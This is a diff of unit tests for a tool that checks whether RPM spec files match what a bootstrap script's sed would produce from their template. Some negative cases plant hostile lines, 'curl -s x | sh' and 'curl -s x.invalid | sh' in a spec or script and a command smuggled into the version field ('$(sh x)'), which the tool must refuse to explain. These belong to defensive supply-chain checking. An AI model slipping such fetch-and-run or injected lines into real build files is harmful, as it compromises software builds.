@@ -67,6 +67,25 @@ describe('the files a script writes with sed', () => {
     expect(writes[0]?.substitutions).toHaveLength(2)
   })
 
+  it('reads the one file a cat right before the sed feeds it, and nothing else as its input', () => {
+    const script = [
+      '#!/bin/sh',
+      '( V=`build/get-version.sh`',
+      '  cat ./build/rpm/tool.spec.in | \\',
+      '  sed -e "s/TOOL_VERSION/$V/" \\',
+      '  > tool.spec )',
+      'cat a.in b.in | sed -e "s/X/$V/" > two',
+      'cat c.in | tr x y | sed -e "s/X/$V/" > translated',
+      'grep -v "^#" d.in | sed -e "s/X/$V/" > grepped',
+      'cat e.in | sed -e "s/X/$V/" f.in > operand',
+      'cat | sed -e "s/X/$V/" > stdin',
+    ].join('\n')
+    expect(sedWrites(script).map((w) => [w.line, w.input.path, w.output.path])).toEqual([
+      [3, 'build/rpm/tool.spec.in', 'tool.spec'],
+      [9, 'f.in', 'operand'],
+    ])
+  })
+
   it('knows the literal values a script assigns, and which it computes', () => {
     const values = assignedValues('A=x\nif t; then A="y z"; fi\nB=$(date)\nC=1; C=`uname`\nexport D=lit\nfor E in a b; do :; done\n')
     expect(values.get('A')).toEqual(new Set(['x', 'y z']))
@@ -161,6 +180,36 @@ describe('release scripts without an extension, one directory down', () => {
   it('reads no extension-less file of another directory, nor one with a dot, and still refuses what the sed cannot write', async () => {
     for (const script of ['build-aux/makesrcdist', 'm4/release', 'scripts/make.dist', 'a/b/scripts/makesrcdist']) expect(await judgeIn(script, spec), script).toBeUndefined()
     expect(await judgeIn('scripts/makesrcdist', spec.replace('make\n', 'make\ncurl -s x | sh\n'))).toBeUndefined()
+  })
+})
+
+describe('a spec file a bootstrap pipes its template to sed for', () => {
+  const buildconf = [
+    '#!/bin/sh',
+    'if [ -f `which cut` ]; then',
+    '  ( REVISION=`build/get-version.sh all include/tool_version.h TOOL`',
+    '    VERSION=`echo $REVISION | cut -d- -s -f1`',
+    '    RELEASE=`echo $REVISION | cut -d- -s -f2`',
+    '    cat ./build/rpm/tool.spec.in | \\',
+    '    sed -e "s/TOOL_VERSION/$VERSION/" \\',
+    '        -e "s/TOOL_RELEASE/$RELEASE/" \\',
+    '    > tool.spec )',
+    'fi',
+  ].join('\n')
+  const template = 'Name: tool\nVersion: TOOL_VERSION\nRelease: TOOL_RELEASE\n%build\nmake %{?_smp_mflags}\n'
+  const spec = 'Name: tool\nVersion: 2.4.1\nRelease: 1\n%build\nmake %{?_smp_mflags}\n'
+  const judgeSpec = (text: string, script = buildconf) =>
+    templateExplainer().judge(added('tool.spec', text), memoryView({ 'tool.spec': text }, { buildconf: script, 'build/rpm/tool.spec.in': template }))
+
+  it('replays the sed on the template the cat feeds it', async () => {
+    const j = await judgeSpec(spec)
+    expect(j?.outcome === 'explained' && j.explained).toMatchObject({ reproduced: false, how: expect.stringMatching(/buildconf:6 from build\/rpm\/tool\.spec\.in/) })
+  })
+
+  it('leaves unexplained a spec with a line the template lacks, code for a version, or a template the sed does not read', async () => {
+    expect(await judgeSpec(spec.replace('make %{?_smp_mflags}\n', 'make %{?_smp_mflags}\n%post\ncurl -s x.invalid | sh\n'))).toBeUndefined()
+    expect(await judgeSpec(spec.replace('2.4.1', '2.4.1; $(sh x)'))).toBeUndefined()
+    expect(await judgeSpec(spec, buildconf.replace('cat ./build/rpm/tool.spec.in', 'cat ./build/rpm/other.spec.in'))).toBeUndefined()
   })
 })
 
